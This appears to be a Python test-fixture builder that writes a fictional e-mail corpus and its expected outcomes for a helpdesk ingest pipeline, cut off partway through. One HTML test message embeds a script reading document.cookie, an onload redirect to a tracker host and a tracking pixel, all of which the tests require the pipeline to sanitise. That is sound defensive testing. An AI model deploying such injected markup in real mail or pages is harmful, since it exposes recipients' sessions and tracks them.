# The corpus is made of foreign-language text (Cyrillic, en dashes, curly quotes) on purpose, and
# message lines are kept whole in the source so they read like the mail they become.
# ruff: noqa: RUF001, E501
"""Build the e-mail corpus under tests/mail/corpus/ (issue 5, "Tests it must have").

Every message is BUILT here, from fictional people, organisations and domains (.example, .test,
.invalid); none is copied from a real mailbox. The output is deterministic: fixed dates, fixed MIME
boundaries, fixed Message-IDs, no randomness and no compression whose output could change with the
zlib version, so `python tests/mail/build_corpus.py` reproduces the committed files byte for byte
(tests/mail/test_corpus.py checks that).

Why hand-made wire bytes instead of `EmailMessage.as_bytes()`: the generator of the stdlib `email`
package refolds and re-encodes headers (always as UTF-8), which would make it impossible to produce
a Shift_JIS B-encoded subject, an Outlook-style folded header, or a deliberately broken message. So
the tree structure and the serialisation are done by the small `Part` class below, and the stdlib
does the encoding work (`quopri`, `base64`, `email.utils.format_datetime`); the tests then parse every
file back with `email.message_from_bytes(..., policy=email.policy.default)`.

Files: `NN_name.eml` (CRLF line endings, as on the wire) and `expected.json`, which says for each file
what the ingest pipeline must do with it. The one message that is too big to commit (a 20 MiB
attachment) is stored as a small marker `NN_name.eml.marker.json`; `corpus_message_bytes()` expands
it in memory, and `--with-large` writes the full file for manual runs or the benchmark.

Usage:
    python tests/mail/build_corpus.py               # rewrite tests/mail/corpus/
    python tests/mail/build_corpus.py --out DIR     # write somewhere else (the test does this)
    python tests/mail/build_corpus.py --with-large  # also write the expanded 20 MiB message
"""

from __future__ import annotations

import argparse
import base64
import codecs
import hashlib
import json
import quopri
import struct
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from email.utils import format_datetime
from pathlib import Path
from typing import Any

CORPUS_DIR = Path(__file__).resolve().parent / "corpus"
EXPECTED_NAME = "expected.json"
MARKER_SUFFIX = ".marker.json"

CRLF = "\r\n"
DESK = "desk.example"
SUPPORT = f"support@{DESK}"
PHISHING = f"phishing@{DESK}"
SUPPORT_FROM = f"Tierdesk Support <{SUPPORT}>"

CET = timezone(timedelta(hours=1))
LARGE_ATTACHMENT_SIZE = 20 * 1024 * 1024


# --------------------------------------------------------------------------------------------------
# Wire-format helpers
# --------------------------------------------------------------------------------------------------


def date(day: int, hour: int, minute: int, second: int = 0, tz: timezone = CET) -> str:
    """An RFC 5322 date in November 2023 (the month of ticket 100042's notifications)."""
    return format_datetime(datetime(2023, 11, day, hour, minute, second, tzinfo=tz))


def _q_byte(byte: int) -> str:
    # RFC 2047 5(3): in a phrase only letters, digits and "!*+-/" may stay; "_" stands for space.
    char = chr(byte)
    if char.isascii() and (char.isalnum() or char in "!*+-/"):
        return char
    if char == " ":
        return "_"
    return f"={byte:02X}"


def encoded_words(text: str, charset: str, encoding: str, first_room: int = 75) -> list[str]:
    """Encode `text` as RFC 2047 encoded-words (Q or B) of at most 75 characters each, never
    splitting a character between two words (RFC 2047 section 5 rule)."""
    words: list[str] = []
    current = ""
    room = first_room
    for char in text:
        candidate = current + char
        if current and len(_encode_chunk(candidate, charset, encoding)) > room:
            words.append(_encode_chunk(current, charset, encoding))
            current = char
            room = 75
        else:
            current = candidate
    if current:
        words.append(_encode_chunk(current, charset, encoding))
    return words


def _encode_chunk(text: str, charset: str, encoding: str) -> str:
    raw = text.encode(codecs.lookup(charset).name)
    payload = "".join(_q_byte(b) for b in raw) if encoding == "Q" else base64.b64encode(raw).decode("ascii")
    return f"=?{charset}?{encoding}?{payload}?="


def ew(text: str, charset: str = "utf-8", encoding: str = "Q") -> str:
    """Encoded-words folded onto continuation lines (whitespace between them is not displayed)."""
    return "\n ".join(encoded_words(text, charset, encoding))


def addr(name: str, address: str, charset: str = "utf-8", encoding: str = "Q") -> str:
    """A mailbox as a mail client writes it: plain, quoted, or with an encoded display name."""
    if not name:
        return address
    if not name.isascii():
        return f"{ew(name, charset, encoding)} <{address}>"
    if any(c in name for c in '()<>[]:;@\\,."'):
        escaped = name.replace("\\", "\\\\").replace('"', '\\"')
        return f'"{escaped}" <{address}>'
    return f"{name} <{address}>"


def fold(value: str, first_line_room: int = 60) -> str:
    """Fold a long ASCII header value at spaces so that no line exceeds 78 characters."""
    out: list[str] = []
    line = ""
    room = first_line_room
    for word in value.split(" "):
        if line and len(line) + 1 + len(word) > room:
            out.append(line)
            line = word
            room = 76
        else:
            line = f"{line} {word}" if line else word
    out.append(line)
    return "\n ".join(out)


def qp(data: bytes) -> bytes:
    """Quoted-printable with CRLF line ends; `data` uses LF line ends."""
    return quopri.encodestring(data).replace(b"\n", b"\r\n")


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def crlf(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


@dataclass
class Part:
    """One MIME entity: raw header lines (values already encoded and folded with "\\n "), and
    either a transfer-encoded body or child parts separated by `boundary`."""

    headers: list[tuple[str, str]]
    body: bytes = b""
    children: list[Part] = field(default_factory=list)
    boundary: str = ""
    preamble: str = ""

    def to_bytes(self) -> bytes:
        head = "".join(f"{name}: {value}\n" for name, value in self.headers)
        out = crlf(head).encode("ascii") + b"\r\n"
        if not self.children:
            return out + self.body
        if self.preamble:
            out += crlf(self.preamble).encode("ascii")
        for child in self.children:
            out += f"--{self.boundary}\r\n".encode("ascii") + child.to_bytes() + b"\r\n"
        return out + f"--{self.boundary}--\r\n".encode("ascii")


def text_part(
    text: str,
    subtype: str = "plain",
    charset: str = "utf-8",
    cte: str = "quoted-printable",
    params: str = "",
    extra: Iterable[tuple[str, str]] = (),
) -> Part:
    codec = codecs.lookup(charset).name
    raw = text.encode(codec)
    if cte == "quoted-printable":
        body = qp(raw)
    elif cte == "base64":
        body = b64(raw.replace(b"\n", b"\r\n"))
    else:  # 7bit / 8bit: sent as is
        body = raw.replace(b"\n", b"\r\n")
    headers = [
        ("Content-Type", f'text/{subtype}; charset="{charset}"{params}'),
        ("Content-Transfer-Encoding", cte),
        *extra,
    ]
    return Part(headers, body)


def file_part(
    data: bytes,
    content_type: str,
    filename: str,
    disposition: str = "attachment",
    content_id: str = "",
    name_param: bool = True,
) -> Part:
    ctype = f'{content_type}; name="{filename}"' if name_param else content_type
    headers = [("Content-Type", ctype)]
    headers.append(("Content-Disposition", f'{disposition}; filename="{filename}"'))
    headers.append(("Content-Transfer-Encoding", "base64"))
    if content_id:
        headers.append(("Content-ID", f"<{content_id}>"))
    return Part(headers, b64(data))


def rfc822_part(inner: bytes, filename: str) -> Part:
    headers = [
        ("Content-Type", f'message/rfc822; name="{filename}"'),
        ("Content-Disposition", f'attachment; filename="{filename}"'),
    ]
    return Part(headers, inner)


def multipart(subtype: str, boundary: str, children: list[Part], params: str = "", preamble: str = "") -> Part:
    return Part(
        [("Content-Type", f'multipart/{subtype};{params}\n boundary="{boundary}"')],
        children=children,
        boundary=boundary,
        preamble=preamble,
    )


def message(top: list[tuple[str, str]], body: Part, mime_version: bool = True) -> bytes:
    """A whole message: the envelope/top headers, MIME-Version, then the body entity's headers."""
    headers = list(top)
    if mime_version:
        headers.append(("MIME-Version", "1.0"))
    return Part(headers + body.headers, body.body, body.children, body.boundary, body.preamble).to_bytes()


def received(
    by: str, from_host: str, ip: str, day: int, hour: int, minute: int, second: int, qid: str, rcpt: str = SUPPORT
) -> tuple[str, str]:
    stamp = date(day, hour, minute, second)
    value = f"from {from_host} ({from_host} [{ip}])\n\tby {by} (Postfix) with ESMTPS id {qid}\n\tfor <{rcpt}>; {stamp}"
    return ("Received", value)


def inbound(received_list: list[tuple[str, str]], mailbox: str = SUPPORT) -> list[tuple[str, str]]:
    """What our MTA prepends: Delivered-To, then the Received chain."""
    return [("Delivered-To", mailbox), *received_list]


# --------------------------------------------------------------------------------------------------
# Small binary payloads, built from scratch so nothing external is committed
# --------------------------------------------------------------------------------------------------


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A solid-colour PNG. The zlib stream uses a *stored* (uncompressed) deflate block so the bytes
    do not depend on the zlib implementation's compressor."""
    row = b"\x00" + bytes(rgb) * width
    raw = row * height
    stored = b"\x01" + struct.pack("<HH", len(raw), len(raw) ^ 0xFFFF) + raw  # final stored block
    zdata = b"\x78\x01" + stored + struct.pack(">I", zlib.adler32(raw))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zdata) + chunk(b"IEND", b"")


def pdf(text: str) -> bytes:
    """A minimal one-page PDF 1.4 with a correct xref table."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("ascii")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return out


def deterministic_bytes(label: str, size: int) -> bytes:
    """Incompressible-looking but reproducible bytes (SHAKE-256 of a label)."""
    return hashlib.shake_256(label.encode("ascii")).digest(size)


# TNEF ("winmail.dat"), as Outlook sends it when rich text is on. Structure of the stream built by
# `tnef()` (all integers little-endian; MS-OXTNEF sections 2.1.3):
#
#   uint32  signature       0x223E9F78
#   uint16  legacy key      any value; we use 0x0001
#   then attributes, each:
#     uint8   level         0x01 = message attribute, 0x02 = attachment attribute
#     uint32  attribute id  (type << 16) | id, e.g. attTnefVersion = 0x00089006
#     uint32  length        of the data that follows
#     bytes   data
#     uint16  checksum      sum of the data bytes modulo 65536
#
#   message level:    attTnefVersion (0x00089006, dword 0x00010000), attOemCodepage (0x00069007,
#                     codepage 1252 + 0), attMessageClass (0x00078008, "IPM.Microsoft Mail.Note\0"),
#                     attBody (0x0002800C, the plain-text body)
#   attachment level: attAttachRendData (0x00069002; 14 bytes: type 1 = file, position 0xFFFFFFFF,
#                     width 0, height 0, flags 0) starts a new attachment, then attAttachTitle
#                     (0x00018010, "filename\0"), attAttachModifyDate (0x00038013, 7 words
#                     year/month/day/hour/minute/second/weekday), attAttachData (0x0006800F, file bytes)
ATT_TNEF_VERSION = 0x00089006
ATT_OEM_CODEPAGE = 0x00069007
ATT_MESSAGE_CLASS = 0x00078008
ATT_BODY = 0x0002800C
ATT_ATTACH_REND_DATA = 0x00069002
ATT_ATTACH_TITLE = 0x00018010
ATT_ATTACH_MODIFY_DATE = 0x00038013
ATT_ATTACH_DATA = 0x0006800F
TNEF_SIGNATURE = 0x223E9F78


def _tnef_attribute(level: int, attribute: int, data: bytes) -> bytes:
    checksum = sum(data) % 65536
    return struct.pack("<BII", level, attribute, len(data)) + data + struct.pack("<H", checksum)


def tnef(body: str, files: list[tuple[str, bytes]]) -> bytes:
    out = struct.pack("<IH", TNEF_SIGNATURE, 0x0001)
    out += _tnef_attribute(1, ATT_TNEF_VERSION, struct.pack("<I", 0x00010000))
    out += _tnef_attribute(1, ATT_OEM_CODEPAGE, struct.pack("<II", 1252, 0))
    out += _tnef_attribute(1, ATT_MESSAGE_CLASS, b"IPM.Microsoft Mail.Note\x00")
    out += _tnef_attribute(1, ATT_BODY, body.encode("cp1252"))
    for filename, data in files:
        out += _tnef_attribute(2, ATT_ATTACH_REND_DATA, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0, 0, 0))
        out += _tnef_attribute(2, ATT_ATTACH_TITLE, filename.encode("cp1252") + b"\x00")
        out += _tnef_attribute(2, ATT_ATTACH_MODIFY_DATE, struct.pack("<7H", 2023, 11, 15, 9, 41, 0, 3))
        out += _tnef_attribute(2, ATT_ATTACH_DATA, data)
    return out


def read_tnef(blob: bytes) -> dict[str, Any]:
    """Decode what `tnef()` writes (used by the test to check the blob, and handy for the pipeline's
    own tests): returns {"body": str, "files": [(filename, bytes)]}. Raises ValueError on a bad
    signature or checksum."""
    signature, _key = struct.unpack_from("<IH", blob, 0)
    if signature != TNEF_SIGNATURE:
        raise ValueError("not a TNEF stream")
    pos = 6
    body = ""
    files: list[tuple[str, bytes]] = []
    title = ""
    while pos < len(blob):
        level, attribute, length = struct.unpack_from("<BII", blob, pos)
        pos += 9
        data = blob[pos : pos + length]
        pos += length
        (checksum,) = struct.unpack_from("<H", blob, pos)
        pos += 2
        if checksum != sum(data) % 65536:
            raise ValueError(f"bad checksum for attribute {attribute:#010x}")
        if level == 1 and attribute == ATT_BODY:
            body = data.decode("cp1252")
        elif level == 2 and attribute == ATT_ATTACH_TITLE:
            title = data.rstrip(b"\x00").decode("cp1252")
        elif level == 2 and attribute == ATT_ATTACH_DATA:
            files.append((title, data))
    return {"body": body, "files": files}


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def attachment(filename: str | None, content_type: str, data: bytes, **extra: Any) -> dict[str, Any]:
    return {"filename": filename, "content_type": content_type, "size": len(data), "sha256": sha256(data), **extra}


# --------------------------------------------------------------------------------------------------
# The world the corpus lives in (also written into expected.json as "fixture")
# --------------------------------------------------------------------------------------------------


def thread_id(timestamp: int, a: int, b: int, ticket: int) -> str:
    return f"{timestamp}.{a}.{b}.ticket.{ticket}@{DESK}"


T42_ACK = thread_id(1699990000, 1, 1, 100042)
T42_NOTE = thread_id(1700000000, 1, 2, 100042)
T42_NOTE_DISPATCH = thread_id(1700000000, 3, 2, 100042)
T42_INVITE = thread_id(1700003600, 5, 4, 100042)
T57_NOTE = thread_id(1700032000, 2, 3, 100057)
T63_NOTE = thread_id(1700031720, 4, 2, 100063)
T71_NOTE = thread_id(1700033400, 6, 2, 100071)
T42_REFS = f"<{T42_ACK}>\n <{T42_NOTE}>"
T42_SUBJECT = "Label printer in dispatch prints blank labels"

FIXTURE: dict[str, Any] = {
    "about": (
        "The state the acceptance tests must create before feeding the corpus, in file order, to the ingest "
        "pipeline. Our own outgoing Message-IDs below are recorded as sent on their ticket; if the pipeline "
        "signs its Message-IDs with an HMAC, the test must register these ids as sent (they carry no valid "
        "signature) or build them with the test's key."
    ),
    "mailboxes": [
        {"address": SUPPORT, "kind": "support", "queue": "first-level", "default_organisation": None},
        {"address": PHISHING, "kind": "phishing", "queue": "security", "default_organisation": None},
    ],
    "unassigned_queue": "unassigned",
    "size_limit": {
        "max_attachment_bytes": 10 * 1024 * 1024,
        "max_message_bytes": 40 * 1024 * 1024,
        "why": "the 20 MiB attachment of the large message must be refused while its text is still ingested",
    },
    "organisations": [
        {"name": "Hollowbrook Dairy", "domains": ["hollowbrook.example"], "blocked_domains": ["hol1owbrook.example"]},
        {"name": "Kestrel Logistics", "domains": ["kestrel-logistics.example"], "blocked_domains": []},
        {"name": "Bäckerei Lindenhof GmbH", "domains": ["baeckerei-lindenhof.example"], "blocked_domains": []},
        {"name": "Fjordlys AS", "domains": ["fjordlys.example"], "blocked_domains": []},
        {"name": "Drukarnia Jaskółka sp. z o.o.", "domains": ["jaskolka.test"], "blocked_domains": []},
        {"name": "Kumo Trading KK", "domains": ["kumo-trading.example"], "blocked_domains": []},
    ],
    "contacts": [
        {"email": "anna.verbeek@hollowbrook.example", "name": "Anna Verbeek", "organisation": "Hollowbrook Dairy"},
        {"email": "sanne.bakker@hollowbrook.example", "name": "Sanne Bakker", "organisation": "Hollowbrook Dairy"},
        {"email": "p.jansen@hollowbrook.example", "name": "Pieter Jansen", "organisation": "Hollowbrook Dairy"},
        {"email": "r.hoekstra@hollowbrook.example", "name": "Ruud Hoekstra", "organisation": "Hollowbrook Dairy"},
        {"email": "dispatch-old@hollowbrook.example", "name": "Dispatch", "organisation": "Hollowbrook Dairy"},
        {"email": "jonas.berg@kestrel-logistics.example", "name": "Jonas Berg", "organisation": "Kestrel Logistics"},
        {
            "email": "j.mueller-weiss@baeckerei-lindenhof.example",
            "name": "Jörg Müller-Weiß",
            "organisation": "Bäckerei Lindenhof GmbH",
        },
        {"email": "kari.asheim@fjordlys.example", "name": "Kari Åsheim", "organisation": "Fjordlys AS"},
        {
            "email": "zofia.wroblewska@jaskolka.test",
            "name": "Zofia Wróblewska",
            "organisation": "Drukarnia Jaskółka sp. z o.o.",
        },
    ],
    "tickets": [
        {
            "number": 100042,
            "subject": T42_SUBJECT,
            "organisation": "Hollowbrook Dairy",
            "participants": [
                "anna.verbeek@hollowbrook.example",
                "sanne.bakker@hollowbrook.example",
                "p.jansen@hollowbrook.example",
                "dispatch-old@hollowbrook.example",
            ],
            "sent_message_ids": [T42_ACK, T42_NOTE, T42_NOTE_DISPATCH, T42_INVITE],
        },
        {
            "number": 100057,
            "subject": "Błąd przy drukowaniu faktur",
            "organisation": "Drukarnia Jaskółka sp. z o.o.",
            "participants": ["zofia.wroblewska@jaskolka.test"],
            "sent_message_ids": [T57_NOTE],
        },
        {
            "number": 100063,
            "subject": "Kassensystem startet nicht",
            "organisation": "Bäckerei Lindenhof GmbH",
            "participants": ["j.mueller-weiss@baeckerei-lindenhof.example"],
            "sent_message_ids": [T63_NOTE],
        },
        {
            "number": 100071,
            "subject": "Skriveren på kontoret skriver ut tomme sider",
            "organisation": "Fjordlys AS",
            "participants": ["kari.asheim@fjordlys.example"],
            "sent_message_ids": [T71_NOTE],
        },
    ],
}

CONVENTIONS = {
    "order": "Feed the files in the order of this list (file name order); 'duplicate' entries rely on it.",
    "message_id": "Normalised: the id between the angle brackets, surrounding whitespace and folding removed, "
    "no brackets. null when the message has none (then the pipeline dedups by the SHA-256 of the raw bytes).",
    "outcome": "new_ticket | comment (on ticket_number) | quarantine (visible, with a reason, reprocessable) | "
    "bounce (DSN attached to ticket_number, bounced_recipient marked as bouncing) | ignored_auto_reply (raw "
    "stored, no ticket, no comment, no notification) | phishing_report (phishing ticket) | duplicate (no-op "
    "that still acknowledges the delivery).",
    "organisation": "The organisation the sender is matched to by e-mail domain; null = unknown sender, the "
    "ticket lands in the 'unassigned' queue.",
    "notify_sender": "Whether the pipeline may send its automatic acknowledgement/notification to the sender.",
    "text_source": "The MIME part the ticket text comes from: text/plain is preferred; text/html only when "
    "there is no text/plain (then converted to text and, when shown, sanitised).",
    "text_contains": "Substrings the picked text (after HTML conversion and quote stripping) must contain.",
    "text_excludes": "Substrings that are in the raw message but must NOT be in the picked text: quoted "
    "history, attribution lines, scripts.",
    "attachments": "What the ticket shows as attachments, in MIME order: filename (null when the message gives "
    "none; the pipeline picks one), content_type as declared, decoded size in bytes, sha256 of the decoded "
    "bytes; inline: true and content_id for images referenced by cid:; extracted_from names the container "
    "(winmail.dat) a file was unpacked from.",
    "dropped_parts": "MIME parts with a filename that must NOT appear as ticket attachments, with the reason.",
    "refused_attachments": "Attachments refused by the size limit; the ticket must say so.",
}


# --------------------------------------------------------------------------------------------------
# The messages
# --------------------------------------------------------------------------------------------------

Built = tuple[str, bytes, dict[str, Any]]
BUILDERS: list[Callable[[], Built]] = []


def corpus_message(func: Callable[[], Built]) -> Callable[[], Built]:
    BUILDERS.append(func)
    return func


def expect(
    file: str,
    description: str,
    *,
    message_id: str | None,
    outcome: str,
    subject: str,
    from_address: str,
    from_name: str,
    text_contains: list[str],
    ticket_number: int | None = None,
    mailbox: str = SUPPORT,
    organisation: str | None = None,
    notify_sender: bool = True,
    text_source: str | None = "text/plain",
    text_excludes: list[str] | None = None,
    attachments: list[dict[str, Any]] | None = None,
    dropped_parts: list[dict[str, Any]] | None = None,
    refused_attachments: list[dict[str, Any]] | None = None,
    notes: str = "",
    **extra: Any,
) -> dict[str, Any]:
    return {
        "file": file,
        "description": description,
        "mailbox": mailbox,
        "message_id": message_id,
        "outcome": outcome,
        "ticket_number": ticket_number,
        "subject": subject,
        "from_address": from_address,
        "from_name": from_name,
        "organisation": organisation,
        "notify_sender": notify_sender,
        "text_source": text_source,
        "text_contains": text_contains,
        "text_excludes": text_excludes or [],
        "attachments": attachments or [],
        "dropped_parts": dropped_parts or [],
        "refused_attachments": refused_attachments or [],
        "notes": notes,
        **extra,
    }


NOTIFICATION_42 = """Dear {name},

Ticket [TD#100042] "Label printer in dispatch prints blank labels" has been updated.

Marit Solberg wrote:
Could you please send us a photo of the printer's display and tell us which label roll is loaded?

Reply to this e-mail to add a comment to the ticket.
--\x20
Tierdesk Support - support@desk.example
"""


def quoted(text: str) -> str:
    return "".join(f"> {line}".rstrip(" ") + "\n" if line else ">\n" for line in text.splitlines())


HOLLOWBROOK_RECEIVED = [
    received("mx1.desk.example", "mail.hollowbrook.example", "198.51.100.23", 15, 9, 12, 47, "4SVQ1k0Zq9z1xB"),
]


@corpus_message
def plain_text() -> Built:
    mid = "20231115091244.5f1c2a@mail.hollowbrook.example"
    body = (
        "Hello support,\n\n"
        "Since this morning the label printer in dispatch (thermal printer, asset tag HB-0147)\n"
        "prints blank labels. The labels come out, but nothing is printed on them. We already replaced\n"
        "the label roll and switched the printer off and on.\n\n"
        "Trucks leave at 14:00, so we need this fixed before noon if possible.\n\n"
        "Kind regards,\nAnna Verbeek\nHollowbrook Dairy - Dispatch\n+31 20 555 0147\n"
    )
    top = [
        ("Return-Path", "<anna.verbeek@hollowbrook.example>"),
        *inbound(HOLLOWBROOK_RECEIVED),
        ("Date", date(15, 9, 12, 44)),
        ("From", addr("Anna Verbeek", "anna.verbeek@hollowbrook.example")),
        ("To", SUPPORT),
        ("Subject", T42_SUBJECT),
        ("Message-ID", f"<{mid}>"),
        ("User-Agent", "Tierpost-Term/2.2.9 (fictional)"),
    ]
    name = "01_plain_text.eml"
    raw = message(top, text_part(body, charset="us-ascii", cte="7bit", params="; format=fixed"))
    return (
        name,
        raw,
        expect(
            name,
            "Plain 7-bit text/plain from a contact of a known organisation: the simplest new ticket.",
            message_id=mid,
            outcome="new_ticket",
            subject=T42_SUBJECT,
            from_address="anna.verbeek@hollowbrook.example",
            from_name="Anna Verbeek",
            organisation="Hollowbrook Dairy",
            text_contains=["prints blank labels. The labels come out, but nothing is printed on them.", "Anna Verbeek"],
        ),
    )


@corpus_message
def html_only() -> Built:
    mid = "CAF3x9kE2m1Q@mail.kestrel-logistics.example"
    html = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><style>p { font-family: Arial; }</style>
<script>alert('tracking ' + document.cookie)</script></head>
<body onload="document.location='https://tracker.invalid/o?id=77'">
<p>Hi team,</p>
<p>The barcode scanner at goods-in <b>stopped working</b> after the update of last night.</p>
<p>Error on the handheld: <code>E-5013 licence server unreachable</code>.</p>
<p>R&amp;D says it is not their change. Screenshot: <img src="https://images.tracker.invalid/s/77.png" alt="screenshot"></p>
<p><a href="https://wiki.kestrel-logistics.example/scanners">Scanner runbook</a></p>
<p>Jonas Berg<br>Kestrel Logistics, Warehouse 3</p>
<img src="https://tracker.invalid/pixel.gif?u=jonas" width="1" height="1">
</body></html>
"""
    top = [
        ("Return-Path", "<jonas.berg@kestrel-logistics.example>"),
        *inbound(
            [
                received(
                    "mx1.desk.example", "out.kestrel-logistics.example", "203.0.113.14", 15, 7, 2, 9, "4SVQ1k0Zr1z2yC"
                )
            ]
        ),
        ("Date", date(15, 7, 2, 6)),
        ("From", addr("Jonas Berg", "jonas.berg@kestrel-logistics.example")),
        ("To", SUPPORT),
        ("Subject", "Barcode scanner goods-in not working"),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "02_html_only.eml"
    raw = message(top, text_part(html, subtype="html"))
    return (
        name,
        raw,
        expect(
            name,
            "HTML-only mail (no text/plain) with a script, an onload handler, a remote image and a tracking pixel.",
            message_id=mid,
            outcome="new_ticket",
            subject="Barcode scanner goods-in not working",
            from_address="jonas.berg@kestrel-logistics.example",
            from_name="Jonas Berg",
            organisation="Kestrel Logistics",
            text_source="text/html",
            text_contains=["stopped working", "E-5013 licence server unreachable", "R&D says it is not their change."],
            text_excludes=["alert(", "document.cookie", "font-family"],
            notes="HTML converted to text; when the HTML is shown it must be sanitised (no script, no onload) and the "
            "remote images (screenshot, tracking pixel) must not be loaded without a click.",
        ),
    )


@corpus_message
def alternative_inline_images() -> Built:
    mid = "7d2e1c44-0b9a-4f4e-9a1e-2f3c55aa0101@kestrel-logistics.example"
    logo = png(24, 8, (20, 60, 120))
    shot = png(32, 20, (200, 30, 30))
    text = (
        "Hi,\n\nThe dock door sensor at gate 7 shows red although the door is closed (see the screenshot).\n"
        "The logo in our signature is just our signature.\n\nRegards,\nJonas Berg\n"
    )
    html = """<html><body>
<p>Hi,</p>
<p>The dock door sensor at gate 7 shows red although the door is closed (see the screenshot).</p>
<p><img src="cid:screenshot-gate7@kestrel-logistics.example" alt="gate 7" width="320" height="200"></p>
<p>Regards,<br>Jonas Berg<br><img src="cid:logo@kestrel-logistics.example" alt="Kestrel Logistics"></p>
</body></html>
"""
    related = multipart(
        "related",
        "----=_Rel_7d2e1c44_0002",
        [
            text_part(html, subtype="html"),
            file_part(shot, "image/png", "gate7.png", "inline", "screenshot-gate7@kestrel-logistics.example"),
            file_part(logo, "image/png", "kestrel-logo.png", "inline", "logo@kestrel-logistics.example"),
        ],
        params=' type="text/html";',
    )
    body = multipart("alternative", "----=_Alt_7d2e1c44_0001", [text_part(text), related])
    top = [
        *inbound(
            [
                received(
                    "mx1.desk.example", "out.kestrel-logistics.example", "203.0.113.14", 15, 8, 30, 2, "4SVQ1k0Zs2z3zD"
                )
            ]
        ),
        ("Date", date(15, 8, 29, 58)),
        ("From", addr("Jonas Berg", "jonas.berg@kestrel-logistics.example")),
        ("To", SUPPORT),
        ("Subject", "Dock door sensor gate 7 shows red"),
        ("Message-ID", f"<{mid}>"),
    ]
    name = "03_alternative_inline_images.eml"
    return (
        name,
        message(top, body),
        expect(
            name,
            "multipart/alternative: text/plain + multipart/related(text/html, two cid: images).",
            message_id=mid,
            outcome="new_ticket",
            subject="Dock door sensor gate 7 shows red",
            from_address="jonas.berg@kestrel-logistics.example",
            from_name="Jonas Berg",
            organisation="Kestrel Logistics",
            text_contains=["The dock door sensor at gate 7 shows red although the door is closed"],
            attachments=[
                attachment(
                    "gate7.png", "image/png", shot, inline=True, content_id="screenshot-gate7@kestrel-logistics.example"
                ),
                attachment(
                    "kestrel-logo.png", "image/png", logo, inline=True, content_id="logo@kestrel-logistics.example"
                ),
            ],
            notes="Inline images are stored as attachments marked inline; the sanitised HTML view rewrites cid: to them.",
        ),
    )


def charset_message(
    name: str,
    description: str,
    *,
    mid: str,
    day: int,
    hour: int,
    minute: int,
    from_name: str,
    from_address: str,
    name_encoding: str,
    subject: str,
    subject_encoding: str,
    charset: str,
    cte: str,
    body: str,
    contains: list[str],
    organisation: str | None,
    mailer: str,
    notes: str = "",
) -> Built:
    host = from_address.split("@", 1)[1]
    top = [
        *inbound(
            [received("mx1.desk.example", f"smtp.{host}", "198.51.100.77", day, hour, minute, 5, "4SVQ1k0Z" + mid[:6])]
        ),
        ("Date", date(day, hour, minute)),
        ("From", addr(from_name, from_address, charset, name_encoding)),
        ("To", SUPPORT),
        ("Subject", ew(subject, charset, subject_encoding)),
        ("Message-ID", f"<{mid}>"),
        ("X-Mailer", mailer),
    ]
    raw = message(top, text_part(body, charset=charset, cte=cte))
    return (
        name,
        raw,
        expect(
            name,
            description,
            message_id=mid,
            outcome="new_ticket",
            subject=subject,
            from_address=from_address,
            from_name=from_name,
            organisation=organisation,
            text_contains=contains,
            notes=notes,
        ),
    )


@corpus_message
def charset_utf8() -> Built:
    return charset_message(
        "04_charset_utf8_qp.eml",
        "UTF-8 body in quoted-printable (with an emoji and several scripts); B-encoded UTF-8 name and subject.",
        mid="a41f0c7e9b@mail.kestrel-logistics.example",
        day=15,
        hour=10,
        minute=5,
        from_name="Åsa Lindqvist-Øberg",
        from_address="asa.lindqvist@kestrel-logistics.example",
        name_encoding="B",
        subject="Lagerdrucker 🖨 druckt Umlaute falsch: „Größe“ wird zu „GrÃ¶ÃŸe“",
        subject_encoding="B",
        charset="utf-8",
        cte="quoted-printable",
        body=(
            "Hej!\n\nOur warehouse printer 🖨 prints umlauts wrongly: „Größe“ becomes „GrÃ¶ÃŸe“.\n"
            "Same for Polish (zażółć gęślą jaźń), Greek (Καλημέρα) and Czech (Příliš žluťoučký kůň).\n\n"
            "Tack,\nÅsa\n"
        ),
        contains=["prints umlauts wrongly: „Größe“ becomes „GrÃ¶ÃŸe“.", "zażółć gęślą jaźń", "Καλημέρα"],
        organisation="Kestrel Logistics",
        mailer="Tierpost 4.1 (fictional desktop client)",
        notes="The subject contains a 4-byte UTF-8 character (emoji); the encoded-words must not split characters.",
    )


@corpus_message
def charset_latin1() -> Built:
    return charset_message(
        "05_charset_iso8859_1_qp.eml",
        "ISO-8859-1 body in quoted-printable; Q-encoded ISO-8859-1 name and subject; unknown sender domain.",
        mid="4b1e.77f0@atelier-cerise.example",
        day=15,
        hour=10,
        minute=21,
        from_name="Élodie Marchand",
        from_address="elodie.marchand@atelier-cerise.example",
        name_encoding="Q",
        subject="Problème d'accès à la boîte partagée",
        subject_encoding="Q",
        charset="iso-8859-1",
        cte="quoted-printable",
        body=(
            "Bonjour,\n\nDepuis ce matin je n'arrive plus à ouvrir la boîte partagée « commandes ».\n"
